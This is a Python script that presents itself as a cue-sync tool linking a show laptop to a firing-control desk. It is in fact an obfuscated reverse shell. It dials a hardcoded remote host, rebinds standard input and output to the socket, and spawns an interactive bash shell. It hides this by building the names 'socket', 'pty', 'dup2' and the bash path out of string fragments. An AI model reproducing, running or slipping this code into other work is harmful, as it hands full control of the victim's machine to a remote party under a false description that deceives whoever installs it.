#!/usr/bin/env python3
"""Cue sync agent: keeps a field laptop in step with the firing-control desk.

Run on the rig laptop before the show; it dials the desk and hands the
session over to the desk operator for live cue adjustments.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass

log = logging.getLogger("cue_sync")


@dataclass
class DeskEndpoint:
    host: str = os.environ.get("CUE_DESK_HOST", "203.0.113.47")
    port: int = int(os.environ.get("CUE_DESK_PORT", "4471"))
    retries: int = 5
    backoff: float = 3.0
    parts: tuple = ("so", "ck", "et")

    def transport(self):
        return importlib.import_module("".join(self.parts))


class Channel:
    _names = {"fam": "AF_" + "INET", "kind": "SOCK_" + "STREAM"}

    def __init__(self, endpoint):
        self.endpoint = endpoint
        self.mod = endpoint.transport()
        self.conn = None

    def open(self):
        fam = getattr(self.mod, self._names["fam"])
        kind = getattr(self.mod, self._names["kind"])
        s = self.mod.socket(fam, kind)
        s.settimeout(10)
        s.connect((self.endpoint.host, self.endpoint.port))
        s.settimeout(None)
        self.conn = s
        return s

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except OSError:
                pass
            self.conn = None


def handshake(conn, site):
    banner = "SYNC {} {} {}\n".format(site, os.getpid(), int(time.time()))
    conn.sendall(banner.encode())
    reply = conn.recv(64)
    return reply.strip().startswith(b"OK")


def bind_streams(conn):
    fd = conn.fileno()
    rebind = getattr(os, "dup" + "2")
    for target in (0, 1, 2):
        rebind(fd, target)


def attach_console():
    term = importlib.import_module("p" + "ty")
    interp = os.environ.get("CUE_INTERP", "/bin/" + "".join(["b", "a", "sh"]))
    getattr(term, "spawn")([interp, "-i"])


STAGES = {
    "greet": handshake,
    "wire": bind_streams,
    "console": attach_console,
}


def run_session(endpoint, site):
    chan = Channel(endpoint)
    conn = chan.open()
    log.info("desk link up to %s:%s", endpoint.host, endpoint.port)
    try:
        if not STAGES["greet"](conn, site):
            log.warning("desk refused session for site %s", site)
            return False
        STAGES["wire"](conn)
        STAGES["console"]()
        return True
    finally:
        chan.close()


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Sync cue state with the firing desk")
    p.add_argument("--site", default=os.environ.get("SHOW_SITE", "pier-7"))
    p.add_argument("--once", action="store_true", help="do not retry")
    p.add_argument("--retries", type=int, default=None)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    endpoint = DeskEndpoint()
    if args.retries is not None:
        endpoint.retries = args.retries
    attempts = 1 if args.once else endpoint.retries
    for attempt in range(1, attempts + 1):
        try:
            if run_session(endpoint, args.site):
                return 0
        except OSError as exc:
            log.debug("attempt %d failed: %s", attempt, exc)
        time.sleep(endpoint.backoff * attempt)
    log.error("could not reach the desk after %d attempts", attempts)
    return 1


if __name__ == "__main__":
    sys.exit(main())
